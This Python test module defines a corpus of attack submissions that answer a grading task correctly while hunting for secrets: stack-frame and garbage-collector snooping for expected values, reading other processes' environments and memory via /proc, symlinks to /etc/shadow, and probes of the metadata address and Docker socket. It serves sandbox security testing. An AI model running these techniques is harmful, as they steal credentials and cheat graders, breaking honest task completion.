"""Submissions that look for secrets: tests, expected values, files, environment, other processes."""

from tests.attacks.corpus import Attack, Gain

HONEST = {"value": 1, "kinds": 1, "arrays": 1}  # they answer rightly, and look around


def _looks(name: str, tries: str, search: str, setup: str = "") -> Attack:
    """Make a submission that searches whenever a test calls it."""
    body = "\n".join("        " + line for line in search.strip().splitlines())
    code = f"{setup}\ndef square(x):\n    try:\n{body}\n    except Exception:\n        pass\n    return x * x"
    return Attack(name, tries, {"square": code}, gain=Gain.LOOT, earns=HONEST)


ATTACKS = (
    _looks("frames", "walks up the frames to the test's names and its source", """
import sys
frame = sys._getframe()
while frame:
    for names in (frame.f_locals, frame.f_globals):
        for key in list(names):
            if key not in ('loot', 'square', 'take'):
                take(repr(names[key])[:10000])
    frame = frame.f_back
"""),
    _looks("gc_objects", "reads every string in every container that the garbage collector knows", """
import gc
for o in gc.get_objects():
    if type(o) in (dict, list, tuple) and len(o) < 1000 and o is not loot:
        for v in list(o.values() if type(o) is dict else o):
            if type(v) is str and 'canary-' in v: take(v)
"""),
    _looks("gc_referrers", "asks who refers to the argument, and who refers to those", """
import gc
seen, names = [x], []
for o in gc.get_referrers(square):
    if type(o) is dict: names.append(o)
for o in gc.get_referrers(*names)[:50]:
    if type(o) is dict: names.append(o)
for o in names:
    for value in list(o.values())[:2000]:
        if type(value) in (str, dict) and value is not loot: take(repr(value)[:5000])
"""),
    _looks("tracemalloc", "finds where memory was given out, and reads those source lines", """
import tracemalloc, linecache
for t in list(tracemalloc.take_snapshot().traces)[:100000]:
    for f in t.traceback:
        if f.filename.startswith('<') or 'ipython-input' in f.filename or 'tmp' in f.filename:
            take(''.join(linecache.getlines(f.filename)))
""", "import tracemalloc\ntracemalloc.start(3)"),
    _looks("linecache", "reads the cells that the interpreter keeps for tracebacks", """
import linecache, sys
for name in list(linecache.cache):
    take(''.join(linecache.getlines(name)))
take(repr(linecache.cache)[:200000])
"""),
    _looks("history", "reads In, the shell's history and its inputs", """
import builtins
for name in ('In', '_ih', '_i', '_ii', '_iii', '_oh'):
    take(repr(globals().get(name)))
ip = get_ipython()
take(repr(ip.user_ns.get('In')))
"""),
    _looks("main_module", "reads __main__ and every module for strings", """
import sys
for module in list(sys.modules.values()):
    for key, value in list(getattr(module, '__dict__', {}).items()):
        if type(value) in (str, dict, list) and value is not loot: take(repr(value)[:5000])
"""),
    _looks("tracebacks", "raises, catches, and reads the stack with its source", """
import inspect, traceback, sys
take(''.join(traceback.format_stack()))
for f in inspect.stack(context=30):
    take(''.join(f.code_context or []))
    try: take(inspect.getsource(f.frame.f_code))
    except Exception: pass
    take(repr(f.frame.f_code.co_consts))
"""),
    _looks("trace_function", "sets a trace that sees the test's frame return", """
import sys
f = sys._getframe().f_back
def look(frame, event, arg):
    take(repr(frame.f_globals.get('secret')))
    take(repr(frame.f_globals.get('expected')))
while f:
    f.f_trace = look
    look(f, 'x', None)
    f = f.f_back
sys.settrace(look)
"""),
    _looks("environment", "reads its own environment and that of the first process", """
import os
take(repr(dict(os.environ)))
for name in ('/proc/self/environ', '/proc/1/environ'):
    try: take(open(name, 'rb').read())
    except OSError: pass
"""),
    _looks("other_environments", "reads the environment and command line of every process", """
import os
pids = set(range(1, 400))
try: pids |= {int(n) for n in os.listdir('/proc') if n.isdigit()}
except OSError: pass
for pid in pids:
    for what in ('environ', 'cmdline', 'comm'):
        try: take(open(f'/proc/{pid}/{what}', 'rb').read())
        except OSError: pass
"""),
    _looks("memory_of_others", "reads the grader's memory through /proc, and by process_vm_readv", """
import os, ctypes
for pid in [os.getppid(), os.getpid(), 1, 2]:
    try:
        for line in open(f'/proc/{pid}/maps'):
            low, high = (int(n, 16) for n in line.split()[0].split('-'))
            if 'rw' in line and high - low < 1 << 26 and ('heap' in line or len(line.split()) == 5):
                with open(f'/proc/{pid}/mem', 'rb', 0) as f:
                    f.seek(low)
                    take(f.read(high - low))
            if loot: break
    except (OSError, ValueError, OverflowError): pass
"""),
    _looks("descriptors", "reads from every descriptor that it inherited", """
import os
for fd in range(64):
    try: take(os.readlink(f'/proc/self/fd/{fd}'))
    except OSError: pass
    try: take(os.pread(fd, 100000, 0))
    except OSError: pass
take(repr(secret))
"""),
    _looks("files_of_the_grader", "reads the grader's home", """
import os
for place in ('@HOME@', '@HOME@/..', '/root', '/home', '/var/lib'):
    for folder, _, names in os.walk(place):
        for n in names[:50]:
            if n == 'secret.txt':
                try: take(open(os.path.join(folder, n), 'rb').read(10000))
                except OSError: pass
        if loot: break
"""),
    _looks("files_of_the_question", "reads the question's own folder with its tests", """
import os
take(open('@QUESTION@/secret.txt').read())
"""),
    _looks("files_of_the_clone", "looks for questions and rubrics where they are kept", """
import os
for n in ('notebooks_templates', 'rubrics', '.git', 'sql_fixtures'):
    if os.path.exists('@CLONE@/' + n): loot.append('the clone: ' + n)
"""),
    _looks("sibling_submission", "reads the submission of somebody else", """
import os
try: take(open('@SIBLING@/secret.txt').read())
except OSError: pass
for place in () if loot else ('/tmp', '/work', '/dev/shm', '..', '/var/tmp'):
    for folder, _, names in os.walk(place):
        for n in names[:100]:
            try: take(open(os.path.join(folder, n), 'rb').read(100000))
            except OSError: pass
        if loot: break
"""),
    _looks("symbolic_links", "plants links to secrets, for itself and for whoever reads its folder", """
import os
for i, target in enumerate(('@HOME@/secret.txt', '@QUESTION@/secret.txt', '/etc/shadow', '/proc/1/environ', '/proc/self/root')):
    try:
        os.symlink(target, f'link{i}')
        take(open(f'link{i}', 'rb').read(10000))
    except OSError: pass
"""),
    _looks("hard_links_and_dot_dot", "hard-links files from outside, and climbs by .. and /proc/self/root", """
import os
for name in ('@HOME@/secret.txt', '../../../../../../@HOME@/secret.txt', '/proc/self/root@HOME@/secret.txt', '/proc/1/root@HOME@/secret.txt'):
    try: os.link(name, 'hard')
    except OSError: pass
    try: take(open(name, 'rb').read(1000))
    except OSError: pass
"""),
    _looks("package_files", "reads tests and graders installed beside the interpreter", """
import importlib.util, os, sys
for n in ('viva_grader', 'viva_console', 'nbgrader', 'pytest'):
    if importlib.util.find_spec(n): loot.append('installed: ' + n)
"""),
    _looks("network", "calls out by TCP and by its answer reads a secret", """
import socket
with socket.create_connection(('127.0.0.1', @TCP@), 1) as s:
    s.sendall(b'VIVA-ATTACK tcp')
    take(s.recv(100))
"""),
    _looks("names_by_hand", "asks a name server of its own by UDP, with what it found as the name", """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.sendto(b'VIVA-ATTACK udp', ('127.0.0.1', @UDP@))
take(s.recvfrom(100)[0])
"""),
    _looks("names", "resolves names of the machine and of outside", """
import socket
for n in ('localhost', socket.gethostname(), 'example.org', 'metadata.google.internal'):
    try:
        found = socket.getaddrinfo(n, 80)
        if found and socket.gethostname() != 'sandbox' and n != 'localhost': loot.append('resolved a name')
    except OSError: pass
"""),
    _looks("services_of_the_host", "tries the host's services, the metadata address and its gateways", """
import socket
for host, port in [('127.0.0.1', @TCP@), ('169.254.169.254', 80), ('172.17.0.1', 22), ('10.0.0.1', 80), ('203.0.113.1', 53), ('::1', 22), ('0.0.0.0', @TCP@)]:
    try:
        with socket.create_connection((host, port), 0.2): loot.append(f'connected: {port}')
    except OSError: pass
"""),
    _looks("abstract_sockets", "knocks at Unix sockets: abstract ones, Docker's, X's, D-Bus's", """
import os, socket
for n in ('\\0viva', '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket'):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(n)
        loot.append('a socket answers: ' + n)
    except OSError: pass
import socket as m
s = m.create_server(('127.0.0.1', 47123))
m.create_connection(('127.0.0.1', @TCP@), 1).close()
loot.append('reached the host')
"""),
    _looks("random_state", "predicts the test's random numbers from the seed that it shares", """
import random, numpy
state = random.getstate()
import sys
f = sys._getframe().f_back
if f is not None and 'secret' in f.f_globals:
    random.seed(0)
    take(f.f_globals['secret'])
"""),
    _looks("leftovers", "looks for what a submission before it has left, and leaves something", """
import os
for place in ('.', '/tmp', '/dev/shm', '/var/tmp'):
    try:
        open(place + '/viva-left-here', 'w').close()
    except OSError: pass
""", "import os\nloot.extend('at first: ' + n for p in ('/tmp', '/dev/shm') if os.path.isdir(p) for n in os.listdir(p)[:3])"),
)  # fmt: skip
